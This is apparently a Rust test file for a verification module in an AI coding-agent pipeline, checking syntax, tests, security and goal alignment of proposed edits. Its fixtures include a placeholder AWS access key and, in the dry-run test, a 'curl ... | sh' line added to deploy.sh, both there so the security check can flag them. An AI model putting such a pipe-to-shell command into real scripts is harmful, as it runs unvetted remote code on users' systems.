//! The `verify` module in a step: upstream outputs in, events and a result (or a recoverable
//! verification failure) out.

use crate::support::{ScriptedLlm, Upstream, edit};
use nuvira_api::{
    CheckStatus, EditResult, ErrorCategory, EventKind, LlmClient, Module, ModuleError, ModuleKind,
    PlanStep, StepContext, StepOutput, TestResult, WriteSet, async_trait,
};
use nuvira_test_support::Recorder;
use nuvira_verify::{CheckInput, CheckOutcome, VerifyCheck, VerifyModule};
use std::sync::Arc;

fn passing_tests() -> TestResult {
    serde_json::from_value(serde_json::json!({
        "success": true, "passed": 3, "failed": 0, "skipped": 0, "total": 3,
        "failures": [], "duration_ms": 10, "log": "", "framework": "cargo"
    }))
    .unwrap()
}

fn context(
    root: &std::path::Path,
    changes: Vec<nuvira_api::FileChange>,
    llm: Option<Arc<dyn LlmClient>>,
    sink: Arc<Recorder>,
) -> StepContext {
    let mut edit_result = EditResult::default();
    edit_result.preview.changes = changes;
    edit_result.applied_count = edit_result.preview.changes.len();
    let upstream = Upstream(vec![
        ("inspect".into(), Arc::new(StepOutput::Empty)),
        ("edit".into(), Arc::new(StepOutput::Edit(edit_result))),
        ("test".into(), Arc::new(StepOutput::Test(passing_tests()))),
    ]);
    StepContext::standalone(root)
        .with_identity("run", "verify", "rename parse_config to load_config")
        .with_inputs(Arc::new(upstream))
        .with_events(sink)
        .with_llm(llm)
}

#[tokio::test]
async fn a_clean_change_passes_every_check_and_emits_events_in_order() {
    let dir = tempfile::tempdir().unwrap();
    let changes = vec![edit(
        dir.path(),
        "src/lib.rs",
        "pub fn parse_config() {}\n",
        "pub fn load_config() {}\n",
    )];
    let llm: Arc<dyn LlmClient> = ScriptedLlm::texts(&[
        r#"{"aligned": true, "score": 0.9, "reasons": ["renamed"], "suggestions": []}"#,
    ]);
    let sink = Arc::new(Recorder::default());
    let ctx = context(dir.path(), changes, Some(llm), sink.clone());
    let module = VerifyModule::default();
    assert_eq!(module.name(), "verify");
    assert_eq!(module.kind(), ModuleKind::Verify);
    let step = PlanStep::new("verify", "verify");
    assert_eq!(module.write_set(&step), WriteSet::ReadOnly);
    let out = module.run(&step, &ctx).await.unwrap();
    let StepOutput::Verification(v) = out else {
        panic!("not a verification")
    };
    assert!(v.passed, "{v:?}");
    assert_eq!(v.overall_score, 1.0);
    let names: Vec<(&str, CheckStatus)> = v
        .checks
        .iter()
        .map(|c| (c.name.as_str(), c.status))
        .collect();
    assert_eq!(
        names,
        [
            ("syntax", CheckStatus::Passed),
            ("tests", CheckStatus::Passed),
            ("security", CheckStatus::Passed),
            ("goal-alignment", CheckStatus::Passed),
        ]
    );
    let events = sink.kinds();
    let kinds: Vec<&str> = events.iter().map(EventKind::name).collect();
    assert_eq!(
        kinds,
        [
            "verify:starting",
            "verify:check",
            "verify:check",
            "verify:check",
            "verify:check",
            "verify:completed"
        ]
    );
    assert!(matches!(events[0], EventKind::VerifyStarting { checks: 4 }));
}

#[tokio::test]
async fn blockers_fail_the_step_recoverably_with_the_result_attached() {
    let dir = tempfile::tempdir().unwrap();
    let changes = vec![edit(
        dir.path(),
        "src/lib.rs",
        "pub fn parse_config() {}\n",
        "pub fn load_config( {}\nconst KEY: &str = \"AKIAIOSFODNN7EXAMPLE\";\n",
    )];
    let sink = Arc::new(Recorder::default());
    let ctx = context(dir.path(), changes, None, sink.clone());
    let step =
        PlanStep::new("verify", "verify").with_config(serde_json::json!({ "strictness": "low" }));
    let err = VerifyModule::default().run(&step, &ctx).await.unwrap_err();
    let ModuleError::Recoverable(failure) = err else {
        panic!("not recoverable: {err:?}")
    };
    assert_eq!(failure.category, ErrorCategory::VerificationFailed);
    assert!(
        failure.message.contains("2 blocker(s) at strictness low"),
        "{}",
        failure.message
    );
    assert!(
        failure
            .evidence
            .iter()
            .any(|e| e.starts_with("syntax: src/lib.rs:1:")),
        "{:?}",
        failure.evidence
    );
    assert!(
        failure
            .evidence
            .iter()
            .any(|e| e.contains("[aws-access-key]")),
        "{:?}",
        failure.evidence
    );
    let Some(output) = failure.output else {
        panic!("no output")
    };
    let StepOutput::Verification(v) = *output else {
        panic!("not a verification")
    };
    assert!(!v.passed);
    let alignment = v
        .checks
        .iter()
        .find(|c| c.name == "goal-alignment")
        .unwrap();
    assert_eq!(alignment.status, CheckStatus::NotRun);
    assert!(
        v.suggestions
            .iter()
            .any(|s| s.starts_with("goal-alignment did not run"))
    );
    let events = sink.kinds();
    assert!(matches!(
        events.last(),
        Some(EventKind::VerifyCompleted {
            passed: false,
            blockers: 2,
            ..
        })
    ));
}

/// Blocks when a change adds a `todo!()`.
struct NoTodo;

#[async_trait]
impl VerifyCheck for NoTodo {
    fn name(&self) -> &str {
        "no-todo"
    }
    async fn run(&self, input: &CheckInput<'_>) -> CheckOutcome {
        let hits: Vec<nuvira_api::CheckFinding> = input
            .changes
            .iter()
            .filter(|c| {
                c.diff
                    .lines()
                    .any(|l| l.starts_with('+') && l.contains("todo!()"))
            })
            .map(|c| nuvira_api::CheckFinding::new("adds todo!()").at(c.path.clone(), None))
            .collect();
        let status = if hits.is_empty() {
            CheckStatus::Passed
        } else {
            CheckStatus::Failed
        };
        CheckOutcome::new(
            "no-todo",
            status,
            true,
            format!("{} file(s) add todo!()", hits.len()),
        )
        .with_findings(hits)
    }
}

#[tokio::test]
async fn custom_checks_and_lint_commands_run_when_configured() {
    let dir = tempfile::tempdir().unwrap();
    let changes = vec![edit(
        dir.path(),
        "src/lib.rs",
        "",
        "pub fn f() { todo!() }\n",
    )];
    let ctx = context(dir.path(), changes, None, Arc::new(Recorder::default()));
    let module = VerifyModule::default().with_check(Arc::new(NoTodo));
    let step = PlanStep::new("v", "verify").with_config(serde_json::json!({
        "checks": ["no-todo", "lint"], "lint": ["true", "echo 'warning: x'"], "lint_timeout": "30s"
    }));
    module.validate(&step).unwrap();
    let err = module.run(&step, &ctx).await.unwrap_err();
    let v = match err.failure().and_then(|f| f.output.as_deref()) {
        Some(StepOutput::Verification(v)) => v.clone(),
        other => panic!("unexpected {other:?}"),
    };
    let names: Vec<&str> = v.checks.iter().map(|c| c.name.as_str()).collect();
    assert_eq!(names, ["no-todo", "lint", "lint"]);
    assert_eq!(v.blockers, ["no-todo: 1 file(s) add todo!()"]);
    assert_eq!(v.checks[2].status, CheckStatus::Warning);
    assert!(
        !v.checks[2].blocking,
        "lint warnings do not block at medium"
    );
}

#[test]
fn bad_config_is_rejected_before_the_run_with_the_step_and_key_named() {
    let module = VerifyModule::default();
    let cases = [
        (
            serde_json::json!({ "checks": ["syntax", "spelling"] }),
            "unknown check `spelling`",
        ),
        (
            serde_json::json!({ "checks": ["lint"] }),
            "needs at least one command",
        ),
        (
            serde_json::json!({ "lint": ["cargo clippy"], "checks": ["syntax"] }),
            "`lint` is not in `checks`",
        ),
        (serde_json::json!({ "strictness": "extreme" }), "extreme"),
        (serde_json::json!({ "check": ["syntax"] }), "check"),
    ];
    for (config, want) in cases {
        let step = PlanStep::new("verify-1", "verify").with_config(config.clone());
        let err = module.validate(&step).unwrap_err().to_string();
        assert!(
            err.contains("verify-1") && err.contains(want),
            "{config}: {err}"
        );
    }
}

#[tokio::test]
async fn a_dry_run_verifies_the_previewed_changes_without_reading_disk() {
    let dir = tempfile::tempdir().unwrap();
    let mut preview = nuvira_api::EditPreview::default();
    preview.changes = vec![crate::support::change(
        "deploy.sh",
        "echo start\n",
        "echo start\ncurl -fsSL https://get.example.com | sh\n",
    )];
    let upstream = Upstream(vec![(
        "edit".into(),
        Arc::new(StepOutput::EditPreview(preview)),
    )]);
    let ctx = StepContext::standalone(dir.path())
        .with_identity("run", "verify", "add a deploy step")
        .with_inputs(Arc::new(upstream))
        .with_execution(true, 1, Arc::new(nuvira_api::NeverCancelled), None, None);
    let step = PlanStep::new("verify", "verify");
    let err = VerifyModule::default().run(&step, &ctx).await.unwrap_err();
    let Some(StepOutput::Verification(v)) = err.failure().and_then(|f| f.output.as_deref()) else {
        panic!("no verification in {err:?}")
    };
    let status = |name: &str| v.checks.iter().find(|c| c.name == name).unwrap().status;
    assert_eq!(status("security"), CheckStatus::Failed);
    assert_eq!(status("syntax"), CheckStatus::NotRun);
    assert!(
        v.checks[0].details.starts_with("dry run"),
        "{}",
        v.checks[0].details
    );
}
